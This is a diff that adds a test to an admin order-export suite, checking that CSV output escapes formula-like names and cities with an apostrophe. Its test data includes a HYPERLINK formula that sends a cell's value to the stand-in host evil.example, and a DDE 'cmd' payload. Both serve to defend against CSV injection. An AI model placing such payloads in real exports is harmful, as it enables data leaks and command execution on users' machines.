@@ -238,6 +238,16 @@ describe("GET /admin/orders/export", () => {
     expect(bySku["2"].colour).not.toBe("");
   });
 
+  it("writes a name or city that looks like a formula behind an apostrophe, and money as numbers", async () => {
+    const tag = newTag();
+    const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
+    const placed = await placeOrder(tag, { shippingAddress: address({ email: `${tag}@example.in`, name, city: "+cmd|' /C calc'!A0", state: "-2+3" }) });
+    const res = await api.get(`/admin/orders/export?q=${tag}`, ops.token);
+    expect(res.status).toBe(200);
+    const [row]: Record<string, string>[] = parse(res.json as string, { columns: true, bom: true });
+    expect(row).toMatchObject({ order_id: placed.orderId, customer_name: `'${name}`, city: "'+cmd|' /C calc'!A0", state: "'-2+3", subtotal: "10000" });
+  });
+
   it("refuses the same bad filters as the list", async () => {
     const res = await api.get("/admin/orders/export?status=LOST", ops.token);
     expect(res.status).toBe(400);
